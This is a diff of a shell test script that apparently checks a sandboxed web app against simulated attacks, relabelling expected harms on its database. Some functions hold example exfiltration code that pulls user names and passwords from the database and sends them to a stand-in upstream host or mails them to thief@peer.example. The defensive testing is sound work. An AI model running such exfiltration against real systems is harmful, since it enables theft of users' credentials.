@@ -379,10 +379,11 @@ attack_code_connect() {
 	thief_got password-of
 }
 
-# Notes of everybody, one after another, and the users' passwords by the order of the list.
+# Notes of everybody, one after another, and the users' passwords by the order of the list. sqlite opens for
+# writing what it reads.
 adaptive_dump() {
 	local n
-	harm read /srv/data/board.db
+	harm write /srv/data/board.db
 	harm read '/srv/app/uploads/*.png'
 	sign_in bob banana
 	for n in $(seq 30); do
@@ -414,7 +415,7 @@ adaptive_tamper() {
 
 # The users' passwords, in a question for news.
 adaptive_upstream() {
-	harm read /srv/data/board.db
+	harm write /srv/data/board.db
 	harm connect "$peer_address:8000"
 	run_inside "file_get_contents(UPSTREAM . '/feed?topic=' .
 		urlencode(json_encode(board_rows('SELECT name, password FROM users'))));"
@@ -423,7 +424,7 @@ adaptive_upstream() {
 
 # The same by mail, through the mail program.
 adaptive_mail() {
-	harm read /srv/data/board.db
+	harm write /srv/data/board.db
 	harm connect "$peer_address:2525"
 	run_inside "echo mail('thief@peer.example', 'users', json_encode(board_rows('SELECT * FROM users')), '',
 		'-f ann@service.example') ? 'was sent' : 'was not';" | grep -q 'was sent'
